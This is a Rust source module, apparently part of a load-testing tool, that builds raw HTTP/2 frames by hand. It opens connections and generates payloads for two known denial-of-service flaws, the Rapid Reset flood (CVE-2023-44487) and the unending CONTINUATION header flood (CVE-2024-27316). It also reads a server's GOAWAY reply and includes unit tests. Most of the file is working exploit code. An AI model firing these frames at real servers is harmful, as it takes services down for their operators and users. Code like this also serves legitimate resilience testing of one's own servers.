//! Frames of HTTP/2 as an attacker writes them by hand (RFC 9113, section 4).

use std::io::{self, Write as _};
use std::net::{SocketAddr, TcpStream};

use crate::load::client;

/// What every client says first, and its settings: none.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// `GET http://a/`: three fields of the static table, and one that is spelled out (RFC 7541).
const GET: [u8; 6] = [0x82, 0x86, 0x84, 0x41, 0x01, b'a'];
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
/// A stream's frames in [`reset`]: two headers of nine bytes, the fields, and the code.
pub const RESET_BYTES: u64 = 9 + GET.len() as u64 + 9 + 4;
/// The frames of [`continuation`].
pub const CONTINUATION_BYTES: u64 = 9 + 16 * 1024;

/// Connects, with prior knowledge.
///
/// # Errors
/// When the server does not accept.
pub fn open(address: SocketAddr) -> io::Result<TcpStream> {
    let mut socket = client::connect(address)?;
    socket.write_all(PREFACE)?;
    Ok(socket)
}

/// A frame.
#[must_use]
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// CVE-2023-44487: a request and its reset, for the stream that comes after so many bytes.
#[must_use]
pub fn reset(sent_bytes: u64) -> Vec<u8> {
    let stream = (sent_bytes / RESET_BYTES) as u32 * 2 + 1;
    let mut frames = frame(HEADERS, END_STREAM | END_HEADERS, stream & 0x7fff_ffff, &GET);
    frames.extend(frame(RST_STREAM, 0, stream & 0x7fff_ffff, &CANCEL.to_be_bytes()));
    frames
}

/// CVE-2024-27316 and its kin: a request whose fields never end.
#[must_use]
pub fn continuation(sent_bytes: u64) -> Vec<u8> {
    if sent_bytes == 0 {
        return frame(HEADERS, END_STREAM, 1, &GET);
    }
    // Fields that are spelled out and not put into any table: name and value of 63 bytes each.
    let mut field = vec![0, 63];
    field.extend([b'x'; 63]);
    field.push(63);
    field.extend([b'y'; 63]);
    let fields: Vec<u8> = field.into_iter().cycle().take(16 * 1024).collect();
    frame(CONTINUATION, 0, 1, &fields)
}

/// The code of the last GOAWAY.
#[must_use]
pub fn last_goaway(words: &[u8]) -> String {
    let is_goaway = |frame: &&[u8]| frame[3] == GOAWAY && frame[..2] == [0, 0] && frame[4..9] == [0; 5];
    let goaway = words.windows(17).rev().find(is_goaway);
    goaway.map_or_else(String::new, |frame| {
        let code = u32::from_be_bytes([frame[13], frame[14], frame[15], frame[16]]);
        match code {
            0x1 => "GOAWAY PROTOCOL_ERROR".to_owned(),
            0xb => "GOAWAY ENHANCE_YOUR_CALM".to_owned(),
            code => format!("GOAWAY {code:#x}"),
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn streams_are_counted_by_bytes() {
        let first = reset(0);
        assert_eq!(first.len() as u64, RESET_BYTES);
        assert_eq!(first[..9], [0, 0, 6, 1, 5, 0, 0, 0, 1]);
        assert_eq!(reset(RESET_BYTES)[..9], [0, 0, 6, 1, 5, 0, 0, 0, 3]);
        assert_eq!(continuation(1).len() as u64, CONTINUATION_BYTES);
    }

    #[test]
    fn the_last_frame_is_read() {
        let mut words = frame(4, 1, 0, &[]);
        words.extend(frame(GOAWAY, 0, 0, &[0, 0, 0, 5, 0, 0, 0, 0xb, b'x']));
        assert_eq!(last_goaway(&words), "GOAWAY ENHANCE_YOUR_CALM");
        assert_eq!(last_goaway(b""), "");
    }
}
